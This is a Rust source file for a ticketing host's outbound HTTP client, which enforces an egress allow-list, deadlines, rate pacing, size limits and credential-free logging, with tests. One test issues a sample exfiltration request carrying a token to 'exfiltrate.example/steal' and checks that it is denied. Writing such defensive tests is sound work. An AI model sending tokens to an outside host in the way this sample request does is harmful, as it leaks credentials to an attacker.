//! The `http` import: a real HTTP client behind the call's egress
//! allow-list, with no redirects followed and the call's deadline as timeout.

use std::io::Read;
use std::time::{Duration, Instant};

use ureq::RequestExt;

use crate::bindings::secops::ticketing::http::{HttpError, Method, Request, Response};
use crate::call_state::CallState;

/// The agent every call shares: redirects are returned, not followed, and a
/// non-2xx status is a response.
pub fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .max_redirects(0)
        .max_redirects_will_error(false)
        .http_status_as_error(false)
        .user_agent("secops-ticketing-host/0.1")
        .build()
        .into()
}

fn method(m: Method) -> &'static str {
    match m {
        Method::Get => "GET",
        Method::Head => "HEAD",
        Method::Post => "POST",
        Method::Put => "PUT",
        Method::Patch => "PATCH",
        Method::Delete => "DELETE",
        Method::Options => "OPTIONS",
    }
}

/// The URL as logged and quoted: no user info, query or fragment.
fn shown(raw: &str) -> String {
    match url::Url::parse(raw) {
        Ok(mut u) => {
            let _ = u.set_username("");
            let _ = u.set_password(None);
            u.set_query(None);
            u.set_fragment(None);
            u.to_string()
        }
        Err(_) => "<invalid URL>".to_string(),
    }
}

/// Sends with a body only when there is one or the method needs one, so a
/// GET carries no `Content-Length: 0`.
fn run(
    agent: &ureq::Agent,
    builder: ureq::http::request::Builder,
    body: Vec<u8>,
    needs_body: bool,
    timeout: Duration,
) -> Result<Result<ureq::http::Response<ureq::Body>, ureq::Error>, String> {
    if body.is_empty() && !needs_body {
        let r = builder.body(()).map_err(|e| e.to_string())?;
        Ok(r.with_agent(agent)
            .configure()
            .timeout_global(Some(timeout))
            .run())
    } else {
        let r = builder.body(body).map_err(|e| e.to_string())?;
        Ok(r.with_agent(agent)
            .configure()
            .timeout_global(Some(timeout))
            .run())
    }
}

/// The `http` import of a call: [`send`] under the call's egress,
/// deadline and size limit.
impl crate::bindings::secops::ticketing::http::Host for CallState {
    fn send(&mut self, request: Request) -> Result<Response, HttpError> {
        send(self, request)
    }
}

/// Logs carry the method, the URL without user info or query, the status and
/// the duration; never headers or bodies, which hold credentials.
pub fn send(state: &mut CallState, request: Request) -> Result<Response, HttpError> {
    let shown = shown(&request.url);
    let verb = method(request.method);
    // The URL sent is the one the allow-list checks, and the headers cannot
    // choose another virtual host or frame another request (`outbound`).
    let checked = state
        .egress
        .check(&request.url)
        .and_then(|()| crate::outbound::target(&request.url))
        .and_then(|url| crate::outbound::check_headers(&request.headers).map(|()| url));
    let url = match checked {
        Ok(url) => url,
        Err(reason) => {
            tracing::warn!(target: "ticketing_host", method = verb, url = %shown, %reason, "egress denied");
            return Err(HttpError::Denied(reason));
        }
    };
    let who = crate::pacing::identity(&request.url, &request.headers);
    let hold = state.pacer.reserve(&who);
    if !hold.is_zero() {
        if Instant::now() + hold >= state.deadline {
            tracing::warn!(target: "ticketing_host", method = verb, url = %shown, hold_ms = hold.as_millis() as u64, "held back by the rate limit past the call's deadline");
            return Err(HttpError::Timeout);
        }
        tracing::debug!(target: "ticketing_host", hold_ms = hold.as_millis() as u64, "paced");
        std::thread::sleep(hold);
    }
    let remaining = state.deadline.saturating_duration_since(Instant::now());
    if remaining.is_zero() {
        return Err(HttpError::Timeout);
    }
    let mut builder = ureq::http::Request::builder()
        .method(verb)
        .uri(url.as_str());
    for (name, value) in &request.headers {
        builder = builder.header(name, value);
    }
    let needs_body = matches!(request.method, Method::Post | Method::Put | Method::Patch);
    let started = Instant::now();
    let result = run(&state.agent, builder, request.body, needs_body, remaining)
        .map_err(|e| HttpError::Other(format!("bad request to {shown}: {e}")))?;
    let response = match result {
        Ok(r) => r,
        Err(ureq::Error::Timeout(_)) => {
            tracing::warn!(target: "ticketing_host", method = verb, url = %shown, "request timed out");
            return Err(HttpError::Timeout);
        }
        Err(e) => {
            tracing::warn!(target: "ticketing_host", method = verb, url = %shown, error = %e, "request failed");
            return Err(HttpError::Transport(e.to_string()));
        }
    };
    let status = response.status().as_u16();
    let headers: Vec<(String, String)> = response
        .headers()
        .iter()
        .map(|(k, v)| {
            (
                k.as_str().to_ascii_lowercase(),
                String::from_utf8_lossy(v.as_bytes()).into_owned(),
            )
        })
        .collect();
    state.pacer.observe(&who, &headers);
    let limit = state.max_response_bytes as u64;
    let mut body = Vec::new();
    let mut reader = response.into_body().into_reader().take(limit + 1);
    match reader.read_to_end(&mut body) {
        Ok(_) if body.len() as u64 > limit => {
            tracing::warn!(target: "ticketing_host", method = verb, url = %shown, status, limit, "response too large");
            return Err(HttpError::TooLarge);
        }
        Ok(_) => {}
        Err(e) if e.kind() == std::io::ErrorKind::TimedOut => return Err(HttpError::Timeout),
        Err(e) => {
            return Err(HttpError::Transport(format!(
                "reading the response of {shown}: {e}"
            )));
        }
    }
    let elapsed_ms = u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX);
    tracing::info!(target: "ticketing_host", method = verb, url = %shown, status, elapsed_ms, "http");
    Ok(Response {
        status,
        headers,
        body,
    })
}

#[cfg(test)]
mod tests {
    use super::shown;

    #[test]
    fn logged_urls_lose_credentials_and_query() {
        assert_eq!(
            shown("https://u:p@dev.azure.com/c/_apis?x=secret#f"),
            "https://dev.azure.com/c/_apis"
        );
        assert_eq!(shown("not a url"), "<invalid URL>");
    }
}

#[cfg(test)]
mod wire_tests {
    use std::io::{BufRead, BufReader, Write};
    use std::net::TcpListener;
    use std::time::Duration;

    use super::*;
    use crate::egress::Egress;
    use crate::kv::Kv;
    use crate::{Connection, Credentials};

    /// Serves `response` (raw HTTP/1.1) to one connection; returns the base URL.
    fn serve_once(response: Vec<u8>) -> String {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        std::thread::spawn(move || {
            let (stream, _) = listener.accept().unwrap();
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            while reader.read_line(&mut line).unwrap() > 0 && line != "\r\n" {
                line.clear();
            }
            let mut stream = stream;
            let _ = stream.write_all(&response);
        });
        format!("http://{addr}")
    }

    fn state(base: &str, max_response_bytes: usize) -> CallState {
        let c = Connection {
            base_url: format!("{base}/org"),
            project: "p".into(),
            credentials: Credentials::Pat("x".into()),
        };
        CallState::new(
            Egress::for_connection(&c),
            Kv::default(),
            agent(),
            crate::pacing::Pacer::default(),
            Duration::from_secs(5),
            1 << 20,
            max_response_bytes,
        )
    }

    fn get(url: String) -> Request {
        Request {
            method: Method::Get,
            url,
            headers: vec![("Accept".into(), "application/json".into())],
            body: vec![],
        }
    }

    #[test]
    fn redirects_and_errors_are_responses() {
        let base = serve_once(
            b"HTTP/1.1 302 Found\r\nLocation: https://login.example/\r\nContent-Length: 0\r\n\r\n"
                .to_vec(),
        );
        let r = send(&mut state(&base, 1024), get(format!("{base}/org/_apis"))).unwrap();
        assert_eq!(r.status, 302);
        assert!(
            r.headers
                .iter()
                .any(|(k, v)| k == "location" && v == "https://login.example/")
        );

        let base = serve_once(b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\n{}".to_vec());
        let r = send(&mut state(&base, 1024), get(format!("{base}/org/_apis"))).unwrap();
        assert_eq!((r.status, r.body.as_slice()), (404, b"{}".as_slice()));
    }

    #[test]
    fn a_body_over_the_limit_is_too_large() {
        let mut response = b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n".to_vec();
        response.extend([b'a'; 100]);
        let base = serve_once(response);
        assert_eq!(
            send(&mut state(&base, 10), get(format!("{base}/org/x"))),
            Err(HttpError::TooLarge)
        );
    }

    #[test]
    fn no_answer_before_the_call_deadline_is_a_timeout() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        std::thread::spawn(move || {
            let _held = listener.accept();
            std::thread::sleep(Duration::from_secs(3));
        });
        let c = Connection {
            base_url: format!("{base}/org"),
            project: "p".into(),
            credentials: Credentials::Pat("x".into()),
        };
        let mut s = CallState::new(
            Egress::for_connection(&c),
            Kv::default(),
            agent(),
            crate::pacing::Pacer::default(),
            Duration::from_millis(300),
            1 << 20,
            10,
        );
        let started = std::time::Instant::now();
        assert_eq!(
            send(&mut s, get(format!("{base}/org/x"))),
            Err(HttpError::Timeout)
        );
        assert!(started.elapsed() < Duration::from_secs(2));
    }

    #[test]
    fn other_origins_are_denied_without_a_request() {
        let mut s = state("http://127.0.0.1:9", 10);
        match send(&mut s, get("https://exfiltrate.example/steal?pat=x".into())) {
            Err(HttpError::Denied(reason)) => assert!(
                reason.contains("exfiltrate.example") && !reason.contains("pat=x"),
                "{reason}"
            ),
            other => panic!("expected denied, got {other:?}"),
        }
    }
}
